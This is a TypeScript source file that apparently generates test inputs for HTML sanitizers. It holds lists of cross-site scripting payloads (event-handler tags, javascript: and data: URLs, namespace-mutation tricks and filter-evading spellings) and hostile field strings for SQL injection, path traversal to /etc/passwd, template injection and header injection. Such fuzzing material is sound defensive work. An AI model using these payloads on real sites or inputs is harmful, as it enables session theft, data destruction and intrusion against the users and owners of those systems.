/*
 * Texts that try to act in a page. Each markup calls the function of the page that it is made with, so that
 * what acts is noticed. Collected after the usual ways past a filter: how browsers repair what is broken, how
 * namespaces change what a tag means, and how addresses and entities are spelled
 * (https://cheatsheetseries.owasp.org, https://html.spec.whatwg.org/multipage/parsing.html).
 */

/** Elements that run code by themselves or on hover; `@` stands for the handler. */
const ACTING = [
  "<img src=x onerror=@>",
  "<img src onerror=@>",
  '<img srcset="x" onerror=@>',
  "<svg onload=@></svg>",
  "<svg><image href=x onerror=@></image></svg>",
  "<svg><animate attributeName=x dur=1s onbegin=@></animate></svg>",
  "<svg><set attributeName=x onbegin=@></set></svg>",
  "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
  "<math><mtext><img src=x onerror=@></mtext></math>",
  "<video><source onerror=@ src=x></video>",
  "<video src=x onerror=@></video>",
  "<audio src=x onerror=@></audio>",
  "<input autofocus onfocus=@>",
  "<textarea autofocus onfocus=@></textarea>",
  "<select autofocus onfocus=@></select>",
  "<button autofocus onfocus=@>x</button>",
  "<details open ontoggle=@><summary>x</summary></details>",
  "<body onload=@>",
  "<iframe onload=@></iframe>",
  "<object data=x onerror=@></object>",
  "<embed src=x onerror=@>",
  "<link rel=stylesheet href=x onerror=@>",
  "<style onload=@>a{}</style>",
  "<marquee onstart=@>x</marquee>",
  "<p onclick=@>x</p>",
  "<p onmouseover=@>x</p>",
  "<p onpointerenter=@>x</p>",
  "<h2 tabindex=0 onfocus=@>x</h2>",
  "<a href=# onclick=@>x</a>",
  "<li onclick=@>x</li>",
  "<blockquote onmouseenter=@>x</blockquote>",
  "<form onsubmit=@><button>x</button></form>",
  "<p contenteditable oninput=@>x</p>",
  "<p style='animation:x 1s' onanimationstart=@>x</p>",
];

/** Other spellings of one thing, which a filter may read otherwise than a browser. */
const SPELLINGS: ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.toUpperCase(),
  (markup) => markup.replaceAll(" ", "/"),
  (markup) => markup.replaceAll(" ", "\n"),
  (markup) => markup.replaceAll(" ", "\t"),
  (markup) => markup.replaceAll(" ", "\f"),
  (markup) => markup.replaceAll("=@", '="@"'),
  (markup) => markup.replaceAll("=@", " = '@'"),
  (markup) => `<p>a</p${markup}`,
  (markup) => `<<${markup.slice(1)}`,
  (markup) => `<a title="${markup.replaceAll('"', "&quot;")}">${markup}</a>`,
];

/** Addresses that run code; `@` stands for the code. */
const ADDRESSES = [
  "javascript:@",
  "JaVaScRiPt:@",
  " javascript:@",
  "java\tscript:@",
  "java\nscript:@",
  "&#106;avascript:@",
  "&#x6A&#x61vascript:@",
  "javascript&colon;@",
  "javascript&Tab;:@",
  "\u0001javascript:@",
  "javascript://example.org/%0A@",
  "data:text/html,<script>@</script>",
  "vbscript:@",
];
/** Markup with a place for an address, `%`. */
const PLACES = [
  '<a href="%">x</a>',
  "<a href='%'>x</a>",
  '<p><a href="%"><strong>x</strong></a></p>',
  '<svg><a xlink:href="%"><text>x</text></a></svg>',
  '<math href="%">x</math>',
  '<form action="%"><button>x</button></form>',
  '<form><button formaction="%">x</button></form>',
  '<iframe src="%"></iframe>',
  '<object data="%"></object>',
  '<embed src="%">',
  '<meta http-equiv=refresh content="0;url=%">',
  '<base href="%">',
];

/** Texts that become markup only when parsed a second time, or in another namespace. */
const MUTATING = [
  '<svg></p><style><a id="</style><img src=1 onerror=@>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@>",
  "<svg><desc><table><mglyph><style><img src=x onerror=@></style>",
  '<noscript><p title="</noscript><img src=x onerror=@>">',
  '<xmp><p title="</xmp><img src=x onerror=@>">',
  '<title><a title="</title><img src=x onerror=@>">',
  '<textarea><a title="</textarea><img src=x onerror=@>">',
  '<noembed><a title="</noembed><img src=x onerror=@>">',
  '<iframe srcdoc="<script>parent.@</script>"></iframe>',
  "<template><img src=x onerror=@></template><img src=x onerror=@>",
  "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=@>'>",
  "<!--><img src=x onerror=@>-->",
  "<!-- --!><img src=x onerror=@> -->",
  "<![CDATA[><img src=x onerror=@>]]>",
  "<?xml ><img src=x onerror=@>?>",
  "<script>@</script>",
  "<scr<script>ipt>@</scr</script>ipt>",
  "<svg><script>@</script></svg>",
  "<svg><script href='data:,@'/></svg>",
  "</p></div></main><img src=x onerror=@>",
  "&lt;img src=x onerror=@&gt;<img src=x onerror=@>",
  "&amp;lt;img src=x onerror=@&amp;gt;",
  '<p style="background:url(javascript:@)">x</p>',
  "<style>@import 'javascript:@'</style><style>p{background:url(x)}</style>",
  "<plaintext><img src=x onerror=@>",
  "<p>".repeat(300) + "<img src=x onerror=@>",
];

/** Several hundred markups, each of which calls `act` where a filter lets it. */
export function hostileMarkup(act: string): string[] {
  const spelled = ACTING.flatMap((markup) => SPELLINGS.map((spell) => spell(markup)));
  const addressed = PLACES.flatMap((place) =>
    ADDRESSES.map((address) => place.replaceAll("%", address)),
  );
  return [...spelled, ...addressed, ...MUTATING].map((markup) => markup.replaceAll("@", act));
}

/** For fields that are texts: what a template, a query, a sheet, a log or a reader could take for its own. */
export const hostileTexts = (act: string): string[] => [
  `<img src=x onerror=${act}>`,
  `"><svg onload=${act}>`,
  `'-${act}-'`,
  `</script><script>${act}</script>`,
  `\${${act}}{{constructor.constructor('${act}')()}}`,
  "{count, plural, one {#} other {#}} {name} '{' <b>b</b>",
  '=HYPERLINK("http://example.org","x")',
  "'; drop table person; --",
  "../../../etc/passwd\\..\\x",
  "\u202Etxet desrever\u202C \u200Bzero\u200B \uFEFFbom",
  "\u2028line\u2029paragraph\u0085next",
  "__proto__ constructor toString hasOwnProperty",
  "%00%0d%0aSet-Cookie: a=b&lt;b&gt;",
  "Z̷̢̛͖a̶̡̛l̷̨̛g̸̢̛o̷̢̕ 👩‍👩‍👧‍👦 ﷽",
  "W".repeat(180),
];
